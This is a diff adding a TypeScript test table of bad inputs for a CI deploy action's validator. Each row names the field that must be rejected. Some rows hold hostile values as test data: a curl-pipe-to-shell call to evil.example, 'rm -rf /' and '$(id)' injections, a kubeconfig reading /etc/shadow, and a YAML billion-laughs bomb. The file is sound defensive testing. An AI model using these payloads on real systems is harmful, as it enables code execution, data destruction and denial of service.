@@ -1,0 +1,375 @@
+// Hostile and bad input, one case a row. The e2e test runs each through the bundled action and
+// docs/bad-inputs.md is generated from this table (`npm run docs`), so the two cannot drift.
+import { stringify } from 'yaml';
+
+export interface BadInputCase {
+  /** What the case is, for people. */
+  title: string;
+  inputs: Record<string, string>;
+  /** The input the single error must name. */
+  names: string;
+  /** Extra environment, if the case is about one. */
+  env?: Record<string, string>;
+}
+
+const CA = Buffer.from(
+  '-----BEGIN CERTIFICATE-----\nMIIBfake\n-----END CERTIFICATE-----\n',
+).toString('base64');
+const ROLE = 'arn:aws:iam::123456789012:role/deploy';
+const IDENTITY = 'a'.repeat(40);
+const GOOD_CLUSTER = { server: 'https://k8s.example:6443', 'certificate-authority-data': CA };
+
+function kubeconfig(
+  cluster: Record<string, unknown> = GOOD_CLUSTER,
+  extra: Record<string, unknown> = {},
+): string {
+  return stringify({
+    apiVersion: 'v1',
+    kind: 'Config',
+    clusters: [{ name: 'c', cluster }],
+    contexts: [{ name: 'ctx', context: { cluster: 'c', user: 'u' } }],
+    users: [{ name: 'u', user: {} }],
+    'current-context': 'ctx',
+    ...extra,
+  });
+}
+const KUBECONFIG = kubeconfig();
+const YAML_BOMB = [
+  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
+  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
+  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
+  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
+  'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
+  'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
+  'g: [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
+].join('\n');
+const deploy = (extra: Record<string, string>) => ({
+  kubeconfig: KUBECONFIG,
+  workloads: 'deployment/web',
+  images: 'web=nginx:1.27',
+  ...extra,
+});
+const aws = (extra: Record<string, string>) => ({
+  'role-to-assume': ROLE,
+  'aws-region': 'eu-west-1',
+  ...extra,
+});
+
+export const BAD_INPUTS: BadInputCase[] = [
+  // mode and the token
+  { title: 'unknown mode', inputs: { mode: 'gcp' }, names: 'mode' },
+  { title: 'no input picks a mode', inputs: {}, names: 'mode' },
+  { title: 'mode with a newline', inputs: { mode: 'token\nkubernetes' }, names: 'mode' },
+  {
+    title: 'audience with a newline',
+    inputs: { mode: 'token', audience: 'a\nb' },
+    names: 'audience',
+  },
+  {
+    title: 'audience with a control character',
+    inputs: { mode: 'token', audience: 'a\u0007b' },
+    names: 'audience',
+  },
+  {
+    title: 'audience over 512 characters',
+    inputs: { mode: 'token', audience: 'x'.repeat(600) },
+    names: 'audience',
+  },
+  {
+    title: 'show-claims not a boolean',
+    inputs: { mode: 'token', 'show-claims': 'yes' },
+    names: 'show-claims',
+  },
+  {
+    title: 'verify-token not a boolean',
+    inputs: { mode: 'token', 'verify-token': '1' },
+    names: 'verify-token',
+  },
+  {
+    title: 'token mode given a kubernetes input',
+    inputs: { mode: 'token', workloads: 'web' },
+    names: 'workloads',
+  },
+  // kubernetes: the kubeconfig
+  {
+    title: 'kubeconfig of whitespace only',
+    inputs: { mode: 'kubernetes', kubeconfig: ' \n\t ' },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig of base64 garbage',
+    inputs: { kubeconfig: 'bm90IGEga3ViZWNvbmZpZyBhdCBhbGw=' },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig that is not YAML',
+    inputs: { kubeconfig: 'clusters: [\n  - {name: c' },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig that is a list',
+    inputs: { kubeconfig: '- a: 1\n- b: 2\n' },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig of another kind',
+    inputs: { kubeconfig: 'apiVersion: v1\nkind: Secret\ndata: {}\n' },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig YAML bomb (billion laughs)',
+    inputs: { kubeconfig: YAML_BOMB },
+    names: 'kubeconfig',
+  },
+  {
+    // A runner passes inputs in the environment, which caps one value near 128 KiB.
+    title: 'kubeconfig nested 40,000 deep (80 KB)',
+    inputs: { kubeconfig: `a: ${'['.repeat(40_000)}${']'.repeat(40_000)}` },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig whose server is http://',
+    inputs: { kubeconfig: kubeconfig({ server: 'http://k8s.example' }) },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig whose server is not a URL',
+    inputs: { kubeconfig: kubeconfig({ server: 'k8s example' }) },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig reading its CA from a local file',
+    inputs: {
+      kubeconfig: kubeconfig({ server: 'https://k', 'certificate-authority': '/etc/shadow' }),
+    },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig CA data that is not a certificate',
+    inputs: {
+      kubeconfig: kubeconfig({ server: 'https://k', 'certificate-authority-data': 'aGVsbG8=' }),
+    },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig silently skipping TLS verification',
+    inputs: { kubeconfig: kubeconfig({ server: 'https://k', 'insecure-skip-tls-verify': true }) },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'kubeconfig current-context that does not exist',
+    inputs: { kubeconfig: kubeconfig(GOOD_CLUSTER, { 'current-context': 'nope' }) },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'context the kubeconfig does not have',
+    inputs: { kubeconfig: KUBECONFIG, context: 'prod' },
+    names: 'context',
+  },
+  {
+    title: 'namespace that is not a DNS label',
+    inputs: { kubeconfig: KUBECONFIG, namespace: 'Prod_NS' },
+    names: 'namespace',
+  },
+  { title: 'user with a newline', inputs: { kubeconfig: KUBECONFIG, user: 'a\nb' }, names: 'user' },
+  {
+    title: 'kubeconfig and server together',
+    inputs: { kubeconfig: KUBECONFIG, server: 'https://k8s.example' },
+    names: 'kubeconfig',
+  },
+  {
+    title: 'server over plain http',
+    inputs: { server: 'http://k8s.example:6443' },
+    names: 'server',
+  },
+  {
+    title: 'server that is not a URL',
+    inputs: { server: 'k8s.example:6443 ; rm -rf /' },
+    names: 'server',
+  },
+  {
+    title: 'server with credentials in the URL',
+    inputs: { server: 'https://admin:pw@k8s.example' },
+    names: 'server',
+  },
+  {
+    title: 'certificate-authority-data not base64 of a PEM',
+    inputs: { server: 'https://k8s.example', 'certificate-authority-data': '%%%' },
+    names: 'certificate-authority-data',
+  },
+  {
+    title: 'insecure-skip-tls-verify not a boolean',
+    inputs: { kubeconfig: KUBECONFIG, 'insecure-skip-tls-verify': 'maybe' },
+    names: 'insecure-skip-tls-verify',
+  },
+  {
+    title: 'kubeconfig-credentials unknown',
+    inputs: { kubeconfig: KUBECONFIG, 'kubeconfig-credentials': 'dynamic' },
+    names: 'kubeconfig-credentials',
+  },
+  // kubernetes: the deploy
+  {
+    title: 'workload of an unsupported kind',
+    inputs: deploy({ workloads: 'pod/web' }),
+    names: 'workloads',
+  },
+  {
+    title: 'workload name that is not DNS-1123',
+    inputs: deploy({ workloads: 'deployment/Web_App' }),
+    names: 'workloads',
+  },
+  {
+    title: 'workload name with shell metacharacters',
+    inputs: deploy({ workloads: 'deployment/web;rm -rf /' }),
+    names: 'workloads',
+  },
+  {
+    title: 'workload listed twice',
+    inputs: deploy({ workloads: 'web\ndeployment/web' }),
+    names: 'workloads',
+  },
+  {
+    title: 'image with shell metacharacters',
+    inputs: deploy({ images: 'web=nginx;curl evil.example|sh' }),
+    names: 'images',
+  },
+  {
+    title: 'image with command substitution',
+    inputs: deploy({ images: 'web=$(id)' }),
+    names: 'images',
+  },
+  { title: 'image with a space', inputs: deploy({ images: 'web=nginx latest' }), names: 'images' },
+  {
+    title: 'image line without container=',
+    inputs: deploy({ images: 'nginx:1.27' }),
+    names: 'images',
+  },
+  {
+    title: 'container name that is not DNS-1123',
+    inputs: deploy({ images: 'Web=nginx' }),
+    names: 'images',
+  },
+  {
+    title: '*=image mixed with named containers',
+    inputs: deploy({ images: '*=nginx\nweb=redis' }),
+    names: 'images',
+  },
+  {
+    title: 'images without workloads',
+    inputs: { kubeconfig: KUBECONFIG, images: 'web=nginx' },
+    names: 'images',
+  },
+  {
+    title: 'workloads without images',
+    inputs: { kubeconfig: KUBECONFIG, workloads: 'web' },
+    names: 'workloads',
+  },
+  {
+    title: 'rollout-timeout in words',
+    inputs: deploy({ 'rollout-timeout': '5 minutes' }),
+    names: 'rollout-timeout',
+  },
+  {
+    title: 'rollout-timeout negative',
+    inputs: deploy({ 'rollout-timeout': '-1s' }),
+    names: 'rollout-timeout',
+  },
+  {
+    title: 'rollout-timeout beyond a job',
+    inputs: deploy({ 'rollout-timeout': '100h' }),
+    names: 'rollout-timeout',
+  },
+  {
+    title: 'rollback-on-failure not a boolean',
+    inputs: deploy({ 'rollback-on-failure': 'y' }),
+    names: 'rollback-on-failure',
+  },
+  // aws
+  {
+    title: 'role-to-assume not an ARN',
+    inputs: aws({ 'role-to-assume': 'deploy' }),
+    names: 'role-to-assume',
+  },
+  {
+    title: 'role-to-assume a user, not a role',
+    inputs: aws({ 'role-to-assume': 'arn:aws:iam::123456789012:user/ci' }),
+    names: 'role-to-assume',
+  },
+  {
+    title: 'role-to-assume from another partition than the region',
+    inputs: aws({ 'role-to-assume': 'arn:aws-cn:iam::123456789012:role/deploy' }),
+    names: 'role-to-assume',
+  },
+  {
+    title: 'aws-region missing',
+    inputs: { mode: 'aws', 'role-to-assume': ROLE },
+    names: 'aws-region',
+  },
+  {
+    title: 'aws-region not a region',
+    inputs: aws({ 'aws-region': 'mars-north' }),
+    names: 'aws-region',
+  },
+  {
+    title: 'role-duration-seconds too short',
+    inputs: aws({ 'role-duration-seconds': '60' }),
+    names: 'role-duration-seconds',
+  },
+  {
+    title: 'role-duration-seconds not a number',
+    inputs: aws({ 'role-duration-seconds': '1h' }),
+    names: 'role-duration-seconds',
+  },
+  {
+    title: 'role-session-name with a space',
+    inputs: aws({ 'role-session-name': 'my session' }),
+    names: 'role-session-name',
+  },
+  {
+    title: 'role-session-name over 64 characters',
+    inputs: aws({ 'role-session-name': 's'.repeat(65) }),
+    names: 'role-session-name',
+  },
+  {
+    title: 'sts-endpoint over plain http to a remote host',
+    inputs: aws({ 'sts-endpoint': 'http://sts.example.com' }),
+    names: 'sts-endpoint',
+  },
+  {
+    title: 'AWS_ENDPOINT_URL_STS not a URL',
+    inputs: aws({}),
+    env: { AWS_ENDPOINT_URL_STS: 'sts endpoint' },
+    names: 'AWS_ENDPOINT_URL_STS',
+  },
+  {
+    title: 'output-credentials not a boolean',
+    inputs: aws({ 'output-credentials': 'please' }),
+    names: 'output-credentials',
+  },
+  {
+    title: 'aws and chainguard inputs together',
+    inputs: aws({ 'chainguard-identity': IDENTITY }),
+    names: 'chainguard-identity',
+  },
+  // chainguard
+  {
+    title: 'chainguard-identity not an identity id',
+    inputs: { 'chainguard-identity': 'my-identity' },
+    names: 'chainguard-identity',
+  },
+  {
+    title: 'chainguard-issuer over plain http',
+    inputs: { 'chainguard-identity': IDENTITY, 'chainguard-issuer': 'http://issuer.example' },
+    names: 'chainguard-issuer',
+  },
+  {
+    title: 'chainguard-audience with a space',
+    inputs: { 'chainguard-identity': IDENTITY, 'chainguard-audience': 'cgr.dev x' },
+    names: 'chainguard-audience',
+  },
+  {
+    title: 'registry-login not a boolean',
+    inputs: { 'chainguard-identity': IDENTITY, 'registry-login': 'sure' },
+    names: 'registry-login',
+  },
+];
